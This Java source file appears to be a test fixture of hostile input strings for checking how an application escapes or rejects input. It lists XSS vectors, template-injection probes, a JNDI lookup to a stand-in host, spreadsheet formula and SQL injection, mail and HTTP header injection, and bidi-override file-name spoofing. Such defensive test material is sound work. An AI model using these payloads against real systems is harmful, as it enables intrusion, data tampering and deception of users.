package org.navette;

import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.stream.Stream;

/**
 * Texts that a program could take for something else than text. Those of {@link #CURIOUS} are texts that somebody may
 * type: they are kept, and come out as they are. Those of {@link #DECEIVING} break a table or a file, or are read as
 * another text than they are: nobody types them, and no field takes them.
 */
public final class HostileTexts {

    /** What a live element or attribute made of one of these texts is called. */
    public static final String LIVE = "xqz";

    /** What an expression comes to that was evaluated. */
    public static final String EVALUATED = "xqz1337";

    /** HTML, scripts, attributes, templates, formulas, SQL, other alphabets, numbers out of range. */
    public static final List<String> CURIOUS = List.of(
            "<xqz-live>xqz</xqz-live>",
            "<script>xqz()</script>",
            "<img src=x onerror=xqz()>",
            "xqz\" xqz=\"1\" onfocus=\"xqz()",
            "xqz' xqz='1' onfocus='xqz()",
            "xqz` xqz=`1",
            "</textarea></script></title><xqz-live>",
            "--><svg onload=xqz()>",
            "&lt;xqz-live&gt; &amp;lt; &#60;xqz-live>",
            "\\u003cxqz-live\\u003e \\",
            "[xqz](javascript:xqz()) **xqz**",
            "javascript:xqz()//",
            "xqz${7*191}",
            "xqz#{7*191}",
            "xqz*{7*191}",
            "xqz[[${7*191}]]",
            "xqz[(${7*191})]",
            "xqz__${7*191}__",
            "xqz{{7*191}}",
            "{{constructor.constructor('xqz()')()}}",
            "${jndi:ldap://xqz.example/a}",
            "=1+1",
            "=HYPERLINK(\"http://xqz.example\",\"x\")",
            "+33+xqz",
            "-1+xqz",
            "@SUM(A1)",
            "xqz'; drop table request; --",
            "%_\\ xqz",
            "{0} {1,choice} %s %n xqz",
            "1e308",
            "NaN",
            "é = é, œ, ﬁ, İ, ß xqz",
            "xqz 😀 𝒳 👩‍👩‍👧 🏳️‍🌈",
            "xqz عيادة الأمل",
            "xqz \u200f\u061cعيادة\u200e 12",
            "\u2003xqz\u00a0\u00adx\u2003");

    /** Control characters, changes of direction, hidden letters, halves of characters, what is no character. */
    public static final List<String> DECEIVING = List.of(
            "xqz\0xqz",
            "xqz\u0007xqz",
            "xqz\u001b[2Jxqz",
            "xqz\u007fxqz",
            "xqz\u009bxqz",
            "xqz \u202egpj.exe",
            "xqz \u202dxqz\u202c",
            "xqz \u2067xqz\u2069",
            "xqz \u2066xqz",
            "xqz\udb40\udc41xqz",
            "xqz\ufffexqz",
            "xqz\ufdd0xqz",
            "xqz\ud83f\udfffxqz",
            "xqz\ud800xqz",
            "xqz\udc00");

    /** What ends a line, and would begin a header of a mail or an answer; texts of several lines take it. */
    public static final List<String> LINES = List.of(
            "xqz\r\nBcc: xqz@victime.example",
            "xqz\nSubject: xqz",
            "xqz\rSet-Cookie: xqz=1",
            "xqz\u2028xqz",
            "xqz\u0085xqz",
            "xqz\u000bxqz");

    /** Longer than any field. */
    public static final String ENDLESS = "xqz ".repeat(60_000);

    /** All that somebody may type, in a text of several lines' length. */
    public static final String ALL = String.join(" ", CURIOUS);

    private HostileTexts() {}

    /** All that no field of one line takes. */
    public static Stream<String> refusedInLines() {
        return Stream.concat(DECEIVING.stream(), LINES.stream());
    }

    /** All that somebody may type, put together in as few texts of at most so many characters as are needed. */
    public static List<String> packed(int most) {
        List<String> packed = new ArrayList<>();
        String last = "";
        for (String text : CURIOUS) {
            if (!last.isEmpty() && last.length() + 1 + text.length() > most) {
                packed.add(last);
                last = "";
            }
            last = last.isEmpty() ? text : last + " " + text;
        }
        packed.add(last);
        return packed;
    }

    /** Those that are in one of these texts, and that letters of Western Europe write: papers print no others. */
    public static List<String> printable(Collection<String> within) {
        return CURIOUS.stream()
                .filter(text -> text.chars().allMatch(c -> c < 0x180))
                .filter(text -> within.stream().anyMatch(all -> all.contains(text)))
                .toList();
    }

    /** One of these for each turn; as many turns as the shortest field needs give each field all of them. */
    public static String packed(int most, int turn) {
        List<String> packed = packed(most);
        return packed.get(turn % packed.size());
    }

    /** True for a character that turns or hides what stands beside it, or cannot be stored. */
    public static boolean isDeceiving(int c) {
        return c >= 0x202A && c <= 0x202E
                || c >= 0x2066 && c <= 0x206F
                || c >= 0xE0000 && c <= 0xE007F
                || (c & 0xFFFE) == 0xFFFE
                || c < ' ' && c != '\n' && c != '\t' && c != '\r'
                || c >= 0x7F && c <= 0x9F;
    }
}
